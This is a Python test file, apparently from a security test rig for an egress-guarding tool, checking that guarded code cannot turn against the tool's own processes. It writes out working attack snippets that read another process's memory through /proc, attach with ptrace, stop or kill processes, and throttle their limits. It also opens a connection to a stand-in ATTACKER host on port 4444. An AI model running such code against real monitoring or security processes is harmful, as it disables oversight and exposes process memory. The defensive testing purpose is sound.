"""Class 8: the tool itself. Its processes run beside the guarded code; none of them may be turned."""

from rig.attacks import Attack, AttackCase, attacks
from rig.cases import expand

# `ours` are the tool's processes; bare, a process of the same user stands for them, so that each attack
# is seen to work on somebody.
VICTIM = """
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
def comm(pid):
    try: return open(f"/proc/{pid}/comm").read().strip()
    except OSError: return ""
ours = [int(pid) for pid in os.listdir("/proc") if pid.isdigit() and comm(pid).startswith("egress-")]
if os.environ["GUARDED"] == "no":
    r, w = os.pipe()
    victim = os.fork()
    if victim == 0:
        s = socket.create_connection((ATTACKER, 4444)); os.write(w, b"x")
        while True: time.sleep(1)
    os.read(r, 1); ours = [victim]
def done(what): tcp(data=mark + what.encode())
"""


def tool(label, program, **more):
    return Attack(label, VICTIM + program + """
if os.environ["GUARDED"] == "no": os.kill(victim, 9)""", logged=False, **more)


ATTACKS = [
    tool("reading their memory", """
for pid in ours:
    start = int(open(f"/proc/{pid}/maps").readline().split("-")[0], 16)
    memory = open(f"/proc/{pid}/mem", "rb"); memory.seek(start); memory.read(16); done("mem")"""),
    tool("tracing them", """
for pid in ours:
    if libc.ptrace(0x4206, pid, None, None) == 0: done("ptrace")  # PTRACE_SEIZE"""),
    tool("their descriptors", """
for pid in ours:
    for fd in os.listdir(f"/proc/{pid}/fd"): os.readlink(f"/proc/{pid}/fd/{fd}"); done("fd")"""),
    tool("stopping them", """
for pid in ours: os.kill(pid, signal.SIGSTOP); done("stop")"""),
    tool("killing them", """
for pid in ours: os.kill(pid, signal.SIGKILL)
done("kill")"""),
    tool("their priority", """
for pid in ours: os.setpriority(os.PRIO_PROCESS, pid, 19); done("nice")"""),
    tool("their limits", """
import resource
for pid in ours: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3)); done("limit")"""),
]


@expand
class Tool(AttackCase):
    @attacks(ATTACKS)
    def attack(self, attack):
        self.carry_out(attack)
